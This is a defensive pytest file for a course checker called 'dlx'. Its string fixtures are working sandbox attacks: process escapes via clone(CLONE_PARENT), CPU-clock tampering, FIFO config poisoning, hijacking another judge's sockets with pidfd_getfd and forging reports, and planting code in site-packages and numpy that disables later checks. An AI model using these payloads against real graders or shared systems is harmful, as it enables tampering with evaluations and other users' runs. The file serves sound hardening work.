"""White-box attacks on the check engine, third round: each test asserts the SAFE outcome.

Same attacker as rounds one and two (tests/test_security.py, tests/test_security_round2.py): an ordinary
learner who has read dlx's source (not the reference solutions) and writes anything in an exercise file.
Each test drives the real engine; every wait is bounded and every process the learner's code starts is
killed by the test itself, even when its assertion fails.
"""

from __future__ import annotations

import os
import signal
import sys
import time
from pathlib import Path

import pytest

from checker.engine.hardening import landlock_abi
from checker.engine.records import Status as V
from tests.conftest import pid_alive
from tests.helpers import run_source
from tests.test_security import WRONG
from tests.test_security_round2 import _LOOPS, _speed_check, wrong_mse_beside_an_attack

pytestmark = [
    pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the attacks use Linux clone and /proc"),
    pytest.mark.usefixtures("reaper"),  # the test process adopts escapees, as the dlx command does
]


def _kill(pid: int) -> None:
    """SIGKILL a process the learner's code started and reap it if it became our child (we are a subreaper)."""
    try:
        os.kill(pid, signal.SIGKILL)
    except (ProcessLookupError, PermissionError):
        return
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        try:
            done, _ = os.waitpid(pid, os.WNOHANG)
        except ChildProcessError:
            return
        if done:
            return
        time.sleep(0.02)


# --------------------------------------------------------------------------- R3-1/2. a sibling, not a child

# clone(CLONE_PARENT) makes a process whose parent is the sandbox's PARENT (the judge), not the sandbox: a
# sibling.  It is in the judge's process group and is never orphaned (so the subreaper never adopts it), but
# it is not below the sandbox either, and the supervisor's memory watcher and the speed checks' CPU clock
# both sum only the sandbox's tree.  (PyDLL keeps the GIL held across the raw syscall, so the clone's one
# thread runs on as the caller, like after a fork.)
CLONE_SIBLING = r'''
import ctypes, os

def _sibling():
    """Like os.fork(), but the new process is the sandbox's sibling (a child of the judge): 0 in it."""
    libc = ctypes.PyDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    CLONE_PARENT, SIGCHLD, SYS_clone = 0x00008000, 17, 56  # x86-64
    return libc.syscall(ctypes.c_long(SYS_clone), ctypes.c_ulong(CLONE_PARENT | SIGCHLD),
                        ctypes.c_void_p(0), ctypes.c_void_p(0), ctypes.c_void_p(0), ctypes.c_ulong(0))
'''

SIBLING_MEMORY = CLONE_SIBLING + r'''
import time
import numpy as np
for k in range(3):
    if _sibling() == 0:
        try:
            block = bytearray(800 << 20)  # zero-filled: resident
            open(f"{REPORT}.{k}", "w").write(str(os.getpid()))
            time.sleep(8)
        finally:
            os._exit(0)
deadline = time.time() + 8
while time.time() < deadline and sum(os.path.exists(f"{REPORT}.{k}") for k in range(3)) < 3:
    time.sleep(0.05)
time.sleep(1.0)  # ten looks of the memory watcher
'''

_X86_64 = pytest.mark.skipif(os.uname().machine != "x86_64", reason="the raw clone syscall number is x86-64's")


@_X86_64
def test_r3_1_siblings_made_by_clone_parent_count_against_the_memory_limit(tmp_path):
    """Attack: clone(CLONE_PARENT) three processes of 800 MB each: they are the judge's children, outside the
    sandbox's tree that the memory watcher sums, so 2.4 GB (+ the sandbox) go unseen under a 2048 MiB limit."""
    report = tmp_path / "rss"
    try:
        verdict = run_source("mse", f"REPORT = {str(report)!r}\n" + SIBLING_MEMORY + WRONG, tmp_path)
        held = [k for k in range(3) if Path(f"{report}.{k}").exists()]
    finally:
        for k in range(3):
            path = Path(f"{report}.{k}")
            if path.exists() and path.read_text().strip():
                _kill(int(path.read_text()))
    assert verdict.status == V.MEMORY, (verdict.status, verdict.message[:300], held)
    for k in range(3):
        path = Path(f"{report}.{k}")
        if path.exists() and path.read_text().strip():
            assert not pid_alive(int(path.read_text())), "a sibling outlived the run"


# The loop convolution, run by a worker made with clone(CLONE_PARENT): the sandbox pickles the arguments and
# waits on a pipe, and the worker's CPU time is in nobody's tree that the speed check's clock sums.
IM2COL_IN_A_SIBLING = _LOOPS + CLONE_SIBLING + r'''
import pickle, struct
_PIPES = {}

def _serve(rfd, wfd):
    r, w = os.fdopen(rfd, "rb"), os.fdopen(wfd, "wb")
    while True:
        head = r.read(8)
        if len(head) < 8:
            os._exit(0)
        args = pickle.loads(r.read(struct.unpack("<Q", head)[0]))
        out = pickle.dumps(_loops(*args))
        w.write(struct.pack("<Q", len(out)) + out)
        w.flush()

def _start():
    a_r, a_w = os.pipe()
    b_r, b_w = os.pipe()
    if _sibling() == 0:
        os.close(a_w)
        os.close(b_r)
        try:
            _serve(a_r, b_w)
        finally:
            os._exit(0)
    os.close(a_r)
    os.close(b_w)
    _PIPES["w"], _PIPES["r"] = os.fdopen(a_w, "wb"), os.fdopen(b_r, "rb")

def conv2d_forward_fast(x, w, b, stride, pad):
    if not _PIPES:
        _start()
    data = pickle.dumps((x, w, b, stride, pad))
    _PIPES["w"].write(struct.pack("<Q", len(data)) + data)
    _PIPES["w"].flush()
    size = struct.unpack("<Q", _PIPES["r"].read(8))[0]
    return pickle.loads(_PIPES["r"].read(size))
'''


@_X86_64
def test_r3_2_loops_in_a_clone_parent_sibling_do_not_pass_the_speed_check(tmp_path):
    """Attack: conv2d_forward_fast hands the loop convolution to a worker made with clone(CLONE_PARENT).  The
    speed check's clock sums the sandbox's tree, which the sibling is not in: loops pass as 20x faster."""
    verdict = run_source("im2col", IM2COL_IN_A_SIBLING, tmp_path)
    assert not _speed_check(verdict).passed, "a loop convolution in a sibling process passed the 20x speed check"
    assert verdict.status != V.PASSED


# --------------------------------------------------------------------------- R3-3. CPU time that leaves the tree

# The speed check's clock is a sum over the learner's processes as they are NOW, so it can go DOWN: a
# grandchild that burned CPU before the timed call is orphaned during it (its parent exits), re-parented to
# dlx, and its seconds leave the sum.  The loop convolution then measures less than nothing (the check takes
# max(t, 1e-9)), and one such call is enough, since the check keeps the best time.
IM2COL_VANISHING_CPU = _LOOPS + r'''
import os, time

def _burner(seconds):
    """A child whose own child burns `seconds` of CPU; the child waits on a pipe, then exits when told."""
    r, w = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(w)
        try:
            if os.fork() == 0:  # the grandchild: burns, then waits to be killed
                end = time.thread_time() + seconds
                while time.thread_time() < end:
                    pass
                while True:
                    time.sleep(1)
            os.read(r, 1)  # told to go: the grandchild is orphaned
        finally:
            os._exit(0)
    os.close(r)
    return child, w

_READY = [_burner(1.5)]
time.sleep(2.5)  # on a busy machine, give it time to burn (before any check runs)
_CALLS = [0]

def conv2d_forward_fast(x, w, b, stride, pad):
    if x.shape == (64, 8, 8, 1):
        _CALLS[0] += 1
        if _CALLS[0] == 2 and _READY:  # the first timed call: 1.5 s leave the sum
            child, go = _READY.pop()
            os.write(go, b"x")
            os.waitpid(child, 0)
    return _loops(x, w, b, stride, pad)
'''


def test_r3_3_cpu_time_of_a_process_that_leaves_the_tree_still_counts(tmp_path):
    """Attack: during a timed call, orphan a grandchild that already burned 1.5 s of CPU: the learner's CPU
    clock goes backwards by 1.5 s, and the loop convolution is timed at 'less than nothing'."""
    verdict = run_source("im2col", IM2COL_VANISHING_CPU, tmp_path)
    assert not _speed_check(verdict).passed, "a loop convolution passed the 20x speed check with a vanishing clock"
    assert verdict.status != V.PASSED


# --------------------------------------------------------------------------- R3-4. children nobody waits for

# A process's CPU time reaches its parent's "children" clock (cutime) only when the parent WAITS for it.  With
# SIGCHLD ignored, the kernel reaps children itself and their seconds go nowhere.  A child that burned 0.5 s of CPU
# before the timed call exits during it: the clock goes back 0.5 s (as in R3-3, but no process is orphaned,
# so a subreaper judge does not keep it).  (Running the loops in a fresh unwaited child per call hides them
# too, but the fork itself then costs a few ms, too slow to claim 20x here.)
IM2COL_UNWAITED_CHILD = _LOOPS + r"""
import os, signal, time

signal.signal(signal.SIGCHLD, signal.SIG_IGN)  # children are reaped by the kernel, their time added nowhere
_r, _go = os.pipe()
_burned, _w = os.pipe()
_child = os.fork()
if _child == 0:
    os.close(_go)
    try:
        end = time.thread_time() + 0.5
        while time.thread_time() < end:
            pass
        os.write(_w, b"x")
        os.read(_r, 1)
    finally:
        os._exit(0)
os.close(_r)
os.read(_burned, 1)  # it has burned half a second (before any check runs)
_CALLS = [0]

def conv2d_forward_fast(x, w, b, stride, pad):
    if x.shape == (64, 8, 8, 1):
        _CALLS[0] += 1
        if _CALLS[0] == 2:  # the first timed call: the child exits, unwaited, and 0.5 s leave the clock
            os.write(_go, b"x")
            while os.path.exists(f"/proc/{_child}"):
                time.sleep(0.001)
    return _loops(x, w, b, stride, pad)
"""


def test_r3_4_cpu_time_of_children_reaped_by_the_kernel_still_counts(tmp_path):
    """Attack: ignore SIGCHLD; a child that burned 0.5 s of CPU exits during a timed call and is reaped by the
    kernel, its time added to nobody's: the clock goes backwards and a loop convolution passes the 20x check."""
    verdict = run_source("im2col", IM2COL_UNWAITED_CHILD, tmp_path)
    # The learner's processes may not change SIGCHLD's disposition (a seccomp filter): the file's import fails.
    speed = [c for c in verdict.checks if c.name == "test_conv_fast_is_at_least_20x_faster_than_loops"]
    assert not (speed and speed[0].passed), "loops passed the 20x speed check with an unwaited child's time gone"
    assert verdict.status != V.PASSED
    assert verdict.status == V.IMPORT_ERROR and "Operation not permitted" in verdict.message, verdict.message[:300]


# --------------------------------------------------------------------------- R3-5. another run's pytest.ini

# The judge writes `[pytest]` to pytest.ini in its private folder and runs pytest with `-c` that file.  The
# folder is private to the user, not to the run: learner code of a run going on at the same time (`dlx verify
# --jobs 2`, "check all") sees the other run's folders appear next to its own, makes pytest.ini a FIFO there,
# swallows the judge's "[pytest]" and serves pytest its own config instead: `-k loss` deselects every
# gradient check of the other run, whose mse_grad is wrong, and it passes.
POISON_THE_NEXT_CONFIG = r'''
import os, threading, time

_EVIL = b"[pytest]\naddopts = -k loss\n"
_served = []

def _serve(fifo):
    fd = os.open(fifo, os.O_RDONLY)  # the other judge opens it to write "[pytest]": swallow that
    while os.read(fd, 4096):
        pass
    os.close(fd)
    while True:  # pytest opens it to read its configuration
        fd = os.open(fifo, os.O_WRONLY)
        os.write(fd, _EVIL)
        os.close(fd)
        _served.append(fifo)
        time.sleep(0.3)  # until this reader has closed it (else the next open joins the same read)

def _watch():
    base, mine = os.path.dirname(os.getcwd()), os.path.basename(os.getcwd())
    seen = set(os.listdir(base))
    open(WATCHING, "w").write("yes")
    deadline = time.time() + 9
    while time.time() < deadline and not _served:
        for name in os.listdir(base):
            if name in seen or not name.startswith("dlx-"):
                continue
            seen.add(name)
            try:
                os.mkfifo(os.path.join(base, name, "pytest.ini"))
            except OSError:
                continue
            threading.Thread(target=_serve, args=(os.path.join(base, name, "pytest.ini"),), daemon=True).start()
        time.sleep(0.005)
    time.sleep(0.5)
    open(WATCHING, "w").write(repr(_served))

_watch()
''' + WRONG

# Right loss, wrong gradient: only a run whose gradient checks were deselected can pass it.
RIGHT_LOSS_WRONG_GRADIENT = """
import numpy as np

def mse_loss(X, y, w):
    return float(np.mean((X @ w - y) ** 2))

def mse_grad(X, y, w):
    return np.zeros(X.shape[1])
"""


def test_r3_5_learner_code_cannot_configure_another_runs_pytest(tmp_path, monkeypatch):
    """Attack: during a run, turn the pytest.ini of a judge started at the same time into a FIFO and serve it
    `addopts = -k loss`: the other run's gradient checks are deselected and a wrong mse_grad passes."""
    import tempfile
    import threading

    private = tmp_path / "tmp"
    private.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(private))  # both runs' folders (and only theirs) go here
    first, second = tmp_path / "a", tmp_path / "b"
    first.mkdir()
    second.mkdir()
    watching = first / "watching"
    box: dict = {}
    attacker = threading.Thread(target=lambda: box.setdefault("verdict", run_source(
        "mse", f"WATCHING = {str(watching)!r}\n" + POISON_THE_NEXT_CONFIG, first)), daemon=True)
    attacker.start()
    try:
        deadline = time.monotonic() + 30
        while not watching.exists() and attacker.is_alive() and time.monotonic() < deadline:
            time.sleep(0.02)
        assert watching.exists(), "the attacking run did not start"
        other = run_source("mse", RIGHT_LOSS_WRONG_GRADIENT, second)
    finally:
        attacker.join(30)
    assert other.status == V.FAILED, (
        f"a wrong mse_grad {other.status.value} ({other.n_passed}/{other.n_total} checks) while another run's "
        f"learner code ran ({watching.read_text()[:200]})")


# --------------------------------------------------------------------------- R3-6. another run's judge, taken

# R2-9 again, with the two tools it lacked.  A socket cannot be reopened through /proc/<judge>/fd, but
# pidfd_getfd(2) copies any descriptor of a process that a same-user process may ptrace (on a machine without
# Yama's ptrace_scope 1, such as Debian's or Fedora's defaults): a judge before make_undumpable(), frozen there
# by SIGSTOP.  And dlx's check for intruders lists the descriptors of every process, but cannot list those of
# a NON-dumpable one: the learner's process makes itself non-dumpable once it holds the copies.  It then says
# "ready" for the frozen judge, reads the job (and its token) when dlx sends it, writes a passing report and
# kills the judge: the other run's wrong mse passes.  (Run as root, dlx sees the copies and stops the run.)
HIJACK_WITH_PIDFD_GETFD = r'''
import ctypes, json, os, signal, time

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long

def _grab(pid, fd):
    """pidfd_getfd: a copy of another process's descriptor (allowed where ptrace would be: same user, dumpable)."""
    pidfd = os.pidfd_open(pid)
    try:
        new = _libc.syscall(438, pidfd, fd, 0)
        if new < 0:
            raise OSError(ctypes.get_errno(), "pidfd_getfd")
        return new
    finally:
        os.close(pidfd)

def _stat(pid):
    stat = open(f"/proc/{pid}/stat").read()
    return stat[stat.rfind(")") + 2:].split()

def _hijack(pid, log):
    os.kill(pid, signal.SIGSTOP)  # frozen inside its dumpable instant
    env = open(f"/proc/{pid}/environ", "rb").read().split(b"\0")
    fds = {e.split(b"=")[0].decode(): int(e.split(b"=")[1]) for e in env
           if e.startswith((b"DLX_READY_FD=", b"DLX_REPORT_FD="))}
    job, ready, report = _grab(pid, 0), _grab(pid, fds["DLX_READY_FD"]), _grab(pid, fds["DLX_REPORT_FD"])
    _libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0: dlx may not list this process's descriptors any more
    os.write(ready, b"R%d\n" % pid)  # dlx: "the judge is warm"; it looks for intruders, finds none, sends the job
    line = b""
    while not line.endswith(b"\n"):
        chunk = os.read(job, 65536)
        if not chunk:
            break
        line += chunk
    token = json.loads(line)["token"]
    records = [{"event": "loaded", "error": None, "seconds": 0.0},
               {"event": "collected", "count": 1, "names": ["test_all"]},
               {"event": "check", "name": "test_all", "title": "everything", "outcome": "passed", "seconds": 0.0,
                "problem": None},
               {"event": "done", "collected": 1}]
    os.write(report, "".join(json.dumps(dict(r, token=token)) + "\n" for r in records).encode())
    os.kill(pid, signal.SIGKILL)
    log.append("hijacked")

def _watch():
    log, others = [], {os.getppid()}
    deadline = time.time() + 8
    open(WATCHING, "w").write("yes")
    while time.time() < deadline and not log:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) in others:
                continue
            pid = int(entry)
            try:
                if int(_stat(pid)[1]) != DLX:
                    others.add(pid)
                    continue
                if b"checker.judge" not in open(f"/proc/{pid}/cmdline", "rb").read():
                    continue
                others.add(pid)
                _hijack(pid, log)
            except (OSError, KeyError, ValueError) as exc:
                log.append(f"{pid}: {exc!r}")
                others.add(pid)
    open(WATCHING, "w").write(repr(log))

_watch()
''' + WRONG


@pytest.mark.xfail(landlock_abi() < 1, strict=True, reason="needs Landlock (Linux 5.13): elsewhere a same-user process may ptrace a dumpable judge")
def test_r3_6_learner_code_cannot_take_another_judges_sockets(tmp_path):
    """Attack: during a run (as under `dlx verify --jobs 2`), SIGSTOP the next judge dlx starts while it is
    still dumpable, copy its job, ready and report sockets with pidfd_getfd, hide them by making the learner's
    process non-dumpable, answer "ready", read the token and forge the other run's report."""
    if not hasattr(os, "pidfd_open"):
        pytest.skip("no pidfd_open in this Python")
    other, said = wrong_mse_beside_an_attack(HIJACK_WITH_PIDFD_GETFD, tmp_path)
    assert other.status == V.FAILED, f"a wrong mse {other.status.value} while another run's learner code ran ({said})"


# --------------------------------------------------------------------------- R3-7. the primitives themselves

# What R3-6 and R2-14 need, asked of the learner's own judge: a copy of one of its descriptors, a ptrace
# attach, its memory, a signal.  Each must be refused, whoever runs dlx (root passes every ptrace check
# by capability, and the judge being non-dumpable does not stop it).
REACH_THE_JUDGE = r'''
import ctypes, os, signal
import numpy as np

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_judge = os.getppid()
_found = {}

def _try(name, fn):
    try:
        fn()
        _found[name] = "allowed"
    except OSError as exc:
        _found[name] = type(exc).__name__

def _getfd():
    pidfd = os.pidfd_open(_judge)
    try:
        fd = _libc.syscall(438, pidfd, 1, 0)  # its stdout: harmless to hold, but any other would do
        if fd < 0:
            raise OSError(ctypes.get_errno(), "pidfd_getfd")
        os.close(fd)
    finally:
        os.close(pidfd)

def _attach():
    if _libc.ptrace(16, _judge, 0, 0) != 0:  # PTRACE_ATTACH
        raise OSError(ctypes.get_errno(), "ptrace")
    _libc.ptrace(17, _judge, 0, 0)  # PTRACE_DETACH

_try("pidfd_getfd", _getfd)
_try("ptrace", _attach)
_try("mem", lambda: open(f"/proc/{_judge}/mem", "rb").close())
_try("signal", lambda: os.kill(_judge, signal.SIGCONT))
open(REPORT, "w").write(repr(_found))
''' + WRONG


@pytest.mark.xfail(landlock_abi() < 6, strict=True, reason="needs Landlock with signal scoping (Linux 6.12): elsewhere the learner's processes may signal the judge")
def test_r3_7_learner_code_cannot_reach_its_judge(tmp_path):
    """Attack (the primitives): from the sandbox, copy a descriptor of the judge (pidfd_getfd), ptrace it, open
    its memory, signal it.  As root every one of them is allowed today; each must be refused."""
    if not hasattr(os, "pidfd_open"):
        pytest.skip("no pidfd_open in this Python")
    report = tmp_path / "found.txt"
    verdict = run_source("mse", f"REPORT = {str(report)!r}\n" + REACH_THE_JUDGE, tmp_path)
    assert verdict.status == V.FAILED, (verdict.status, verdict.message[:300])
    found = eval(report.read_text())  # noqa: S307 - our own probe's dict of names
    assert not [name for name, result in found.items() if result == "allowed"], found


# --------------------------------------------------------------------------- R3-8. a report without its judge

@pytest.mark.parametrize("returncode", [-9, 6, 3], ids=["judge_killed", "judge_got_no_job", "internal_error"])
def test_r3_8_a_complete_passing_report_from_a_judge_that_did_not_end_well_is_not_a_pass(returncode):
    """Defence in depth for R3-6 (where Landlock is missing): whoever held the judge's report socket wrote a
    complete passing report and killed the judge (or read its job first, so it ended without one).  pytest
    ends with 0 exactly when every check passed: any other end is not a pass."""
    import json

    from checker.engine import grading

    records = [{"event": "loaded", "error": None}, {"event": "collected", "count": 1, "names": ["a"]},
               {"event": "check", "name": "a", "title": "a", "outcome": "passed", "seconds": 0.0},
               {"event": "done", "collected": 1}]
    data = "\n".join(json.dumps({**r, "token": "t"}) for r in records).encode()
    parsed, damage = grading.read_report(data, "t")
    assert damage is None
    assert grading.grade("mse", parsed, timed_out=False, timeout=10, returncode=0).status == V.PASSED
    verdict = grading.grade("mse", parsed, timed_out=False, timeout=10, returncode=returncode)
    assert verdict.status == V.CRASHED, verdict.status


# --------------------------------------------------------------------------- R3-9. a pytest plugin, planted

# R2-7 planted a .pth file in site-packages, which check processes no longer run (python -S).  But the judge's
# pytest still loads every plugin that an installed distribution declares (the "pytest11" entry points), and
# site-packages is on the judge's path: learner code writes a module and a *.dist-info that declares it, and
# every later judge imports it, where it can make failing checks pass.
PLANT_A_PYTEST_PLUGIN = r'''
import os
import numpy as np
_site = os.path.dirname(os.path.dirname(np.__file__))
with open(os.path.join(_site, NAME + ".py"), "w") as handle:
    handle.write(
        "import os, pytest\n"
        "if os.environ.get('DLX_CHECK_PROCESS'):\n"
        "    @pytest.hookimpl(wrapper=True)\n"
        "    def pytest_runtest_call(item):\n"
        "        try:\n"
        "            return (yield)\n"
        "        except BaseException:\n"
        "            return None  # every failing check passes\n"
    )
info = os.path.join(_site, NAME + "-1.0.dist-info")
os.makedirs(info, exist_ok=True)
open(os.path.join(info, "METADATA"), "w").write(f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 1.0\n")
open(os.path.join(info, "entry_points.txt"), "w").write(f"[pytest11]\n{NAME} = {NAME}\n")
''' + WRONG


def test_r3_9_learner_code_cannot_plant_a_pytest_plugin_for_later_judges(tmp_path):
    """Attack: at import, write a module and a dist-info declaring it as a pytest plugin into site-packages;
    every later judge's pytest loads it (plugin autoloading), and it swallows the checks' failures."""
    import shutil

    import numpy

    name = f"zz_dlx_round3_{os.getpid()}"
    site = Path(numpy.__file__).resolve().parent.parent
    try:
        first = run_source("mse", f"NAME = {name!r}\n" + PLANT_A_PYTEST_PLUGIN, tmp_path)
        assert first.status == V.FAILED, (first.status, first.message[:300])
        assert (site / f"{name}-1.0.dist-info" / "entry_points.txt").exists(), "the attack did not run"
        later = run_source("mse", "import numpy as np\n" + WRONG, tmp_path)
    finally:
        (site / f"{name}.py").unlink(missing_ok=True)
        shutil.rmtree(site / f"{name}-1.0.dist-info", ignore_errors=True)
    assert later.status == V.FAILED, f"a wrong mse {later.status.value} after learner code planted the plugin {name}"


# --------------------------------------------------------------------------- R3-10. the file after the run

# `dlx run` keeps a copy of the exercise file in the history, read AFTER the run, with a plain read_bytes().  The
# learner's code replaces its own file by a FIFO while it runs: dlx's read waits for a writer forever, after the
# verdict was made and before it is shown.  (A symlink to /dev/zero instead reads until dlx runs out of memory;
# a FIFO left behind also hangs the next run, which reads the file before it starts, in watch.)
SWAP_MY_FILE_FOR_A_FIFO = r'''
import os
import numpy as np
os.unlink(__file__)
os.mkfifo(__file__)
''' + WRONG


def test_r3_10_a_fifo_in_place_of_the_exercise_file_does_not_hang_dlx_run(workspace):
    """Attack: at import, replace the exercise file itself by a named pipe.  `dlx run mse` must end (not a pass)
    instead of waiting forever to read the file for its history."""
    import threading

    from click.testing import CliRunner

    from checker.cli import cli

    target = workspace.exercises_dir / "week1" / "01_mse.py"
    target.write_text(SWAP_MY_FILE_FOR_A_FIFO)
    box: dict = {}

    def run():
        try:
            box["result"] = CliRunner().invoke(cli, ["-C", str(workspace.root), "run", "mse"], catch_exceptions=False)
        except BaseException as exc:  # noqa: BLE001 - reported below
            box["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(40)
    hung = thread.is_alive()
    if hung:  # unblock dlx: open the pipe for writing, then close it (the reader sees end of file)
        try:
            os.close(os.open(target, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
        thread.join(10)
    assert not hung, "dlx run was still reading the exercise file (a FIFO) 40 s after it started"
    assert "error" not in box, repr(box.get("error"))
    assert box["result"].exit_code == 1, box["result"].output[-500:]


def test_r3_10_dlx_reset_repairs_an_exercise_file_made_a_fifo(workspace):
    """The same FIFO, left behind: `dlx reset mse` (the way back) must not wait on it, and restores the stub."""
    import threading

    from click.testing import CliRunner

    from checker.cli import cli

    target = workspace.exercises_dir / "week1" / "01_mse.py"
    target.unlink()
    os.mkfifo(target)
    box: dict = {}
    thread = threading.Thread(target=lambda: box.setdefault("result", CliRunner().invoke(
        cli, ["-C", str(workspace.root), "reset", "mse"], input="y\n", catch_exceptions=False)), daemon=True)
    thread.start()
    thread.join(30)
    hung = thread.is_alive()
    if hung:
        try:
            os.close(os.open(target, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
        thread.join(10)
    assert not hung, "dlx reset was still reading the exercise file (a FIFO) after 30 s"
    assert target.is_file() and "NotImplementedError" in target.read_text(), box.get("result") and box["result"].output


# =========================================================================== tried, and already stopped

# An exception whose class says it is the judge's own TargetNotLoaded (module and name): the judge rebuilds
# course exceptions by name, and TargetNotLoaded's constructor wants a Problem, not a message.  The judge must
# neither crash nor count it as the "file did not load" verdict it carries: a failed check, and the run goes on.
IMPERSONATE_TARGET_NOT_LOADED = r'''
import numpy as np

class TargetNotLoaded(Exception):
    pass

TargetNotLoaded.__module__ = "checker.judge.plugin"

def mse_loss(X, y, w):
    raise TargetNotLoaded("not loaded")

def mse_grad(X, y, w):
    raise TargetNotLoaded("not loaded")
'''


def test_r3_stopped_an_exception_named_like_the_judges_own_is_a_failed_check(tmp_path):
    verdict = run_source("mse", IMPERSONATE_TARGET_NOT_LOADED, tmp_path)
    assert verdict.status == V.FAILED, (verdict.status, verdict.message[:300])
    assert verdict.checks and not any(c.passed for c in verdict.checks)


# A sibling made with clone(CLONE_PARENT) is the judge's child, in its process group: killed with the run.
SIBLING_LEFT_RUNNING = CLONE_SIBLING + r'''
import time
import numpy as np
if _sibling() == 0:
    try:
        open(REPORT, "w").write(str(os.getpid()))
        os.setsid()  # out of the judge's group too
        time.sleep(60)
    finally:
        os._exit(0)
''' + WRONG


@_X86_64
def test_r3_stopped_a_clone_parent_sibling_does_not_outlive_the_run(tmp_path):
    report = tmp_path / "sibling"
    try:
        verdict = run_source("mse", f"REPORT = {str(report)!r}\n" + SIBLING_LEFT_RUNNING, tmp_path)
        assert verdict.status == V.FAILED, (verdict.status, verdict.message[:300])
        deadline = time.monotonic() + 3
        while not report.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        pid = int(report.read_text())
        deadline = time.monotonic() + 3
        while pid_alive(pid) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not pid_alive(pid), "a sibling of the sandbox outlived the run"
    finally:
        if report.exists() and report.read_text().strip():
            _kill(int(report.read_text()))


# The sandbox's hardening must not get in the way of right code that uses processes the ordinary way: a
# subprocess waited for, and reading (not setting) SIGCHLD's handler.
RIGHT_CODE_WITH_A_SUBPROCESS = r'''
import signal, subprocess, sys
import numpy as np

assert signal.getsignal(signal.SIGCHLD) == signal.SIG_DFL
assert subprocess.run([sys.executable, "-c", "print(6 * 7)"], capture_output=True, text=True).stdout.strip() == "42"

def mse_loss(X, y, w):
    return float(np.mean((X @ w - y) ** 2))

def mse_grad(X, y, w):
    return 2.0 / X.shape[0] * X.T @ (X @ w - y)
'''


def test_r3_stopped_right_code_that_starts_a_subprocess_still_passes(tmp_path):
    verdict = run_source("mse", RIGHT_CODE_WITH_A_SUBPROCESS, tmp_path)
    assert verdict.status == V.PASSED, (verdict.status, verdict.message[:300])


# =========================================================================== what a same-user runner cannot stop

# R2-7 and R3-9 planted files that later judges load by name (a .pth, a pytest plugin's dist-info), now
# ignored.  But the environment's packages are the learner's files too: numpy imports an optional module,
# numpy/_distributor_init_local.py, at every start, and learner code may write it.  It runs in every later
# judge and, once the toolkit is imported, makes assert_close accept anything: the next wrong mse passes.
# (Editing numpy's own files works the same way: the honesty section's "owns dlx's installation".)
PLANT_IN_NUMPY = r'''
import os
import numpy as np
with open(os.path.join(os.path.dirname(np.__file__), "_distributor_init_local.py"), "w") as handle:
    handle.write(
        "import sys, importlib.abc, importlib.machinery\n"
        "class _Finder(importlib.abc.MetaPathFinder):\n"
        "    def find_spec(self, name, path, target=None):\n"
        "        if name != 'checker.testing':\n"
        "            return None\n"
        "        sys.meta_path.remove(self)\n"
        "        spec = importlib.machinery.PathFinder.find_spec(name, path)\n"
        "        real = spec.loader\n"
        "        class _Loader(importlib.abc.Loader):\n"
        "            def create_module(self, s):\n"
        "                return real.create_module(s)\n"
        "            def exec_module(self, module):\n"
        "                real.exec_module(module)\n"
        "                import checker.testing.asserts as a, checker.testing.gradients as g\n"
        "                module.assert_close = a.assert_close = g.assert_close = lambda *args, **kwargs: None\n"
        "                module.gradcheck = g.gradcheck = lambda *args, **kwargs: None\n"
        "        spec.loader = _Loader()\n"
        "        return spec\n"
        "if sys.argv[-1:] == ['checker.judge']:\n"
        "    sys.meta_path.insert(0, _Finder())\n"
    )
''' + WRONG


@pytest.mark.xfail(strict=True, reason="cannot be prevented by a runner of the same user: the environment's packages belong to the learner, and code written into them runs in every later check process")
def test_r3_11_learner_code_cannot_plant_code_inside_an_installed_package(tmp_path):
    """Attack: at import, write numpy/_distributor_init_local.py (numpy imports it if present); in every later
    judge an import hook disables assert_close and gradcheck as the toolkit is imported (deterministically: no
    race with the check).  The next wrong mse passes."""
    import numpy

    planted = Path(numpy.__file__).resolve().parent / "_distributor_init_local.py"
    assert not planted.exists(), "numpy already has a _distributor_init_local: not ours to replace"
    try:
        first = run_source("mse", PLANT_IN_NUMPY, tmp_path)
        assert planted.exists(), (first.status, first.message[:300])
        later = run_source("mse", "import numpy as np\n" + WRONG, tmp_path)
    finally:
        planted.unlink(missing_ok=True)
    assert later.status == V.FAILED, f"a wrong mse {later.status.value} after learner code planted {planted.name}"


# --------------------------------------------------------------------------- R3-12. the timed inputs, foreseen

# The speed check times conv2d_forward_fast on "fresh inputs every round", but they are drawn from seeds the
# check's source fixes (rng(1000), rng(1001), ...): learner code draws the first timed input itself at import,
# computes the loop convolution of it there (untimed) and answers that call from a table.  The check keeps the
# best time: one call answered from the table is enough for loops to pass as "20x faster".
IM2COL_FORESEEN = _LOOPS + r'''
_h = np.random.default_rng(1000)  # the first timed call's seed, from the check's source
_x, _w, _b = _h.random(size=(64, 8, 8, 1)), _h.normal(size=(3, 3, 1, 8)), _h.normal(size=8)
_TABLE = {(_x.tobytes(), _w.tobytes(), _b.tobytes()): _loops(_x, _w, _b, 1, 1)}

def conv2d_forward_fast(x, w, b, stride, pad):
    known = _TABLE.get((x.tobytes(), w.tobytes(), b.tobytes()))
    if known is not None:
        return known.copy()
    return _loops(x, w, b, stride, pad)
'''


def test_r3_12_the_speed_checks_inputs_cannot_be_foreseen(tmp_path):
    """Attack: compute, at import, the loop convolution of the first timed input (its seed is in the check's
    source) and answer that call from a table: the best time is a lookup, and loops pass the 20x check."""
    verdict = run_source("im2col", IM2COL_FORESEEN, tmp_path)
    assert not _speed_check(verdict).passed, "loops passed the 20x speed check by foreseeing its inputs"
    assert verdict.status != V.PASSED
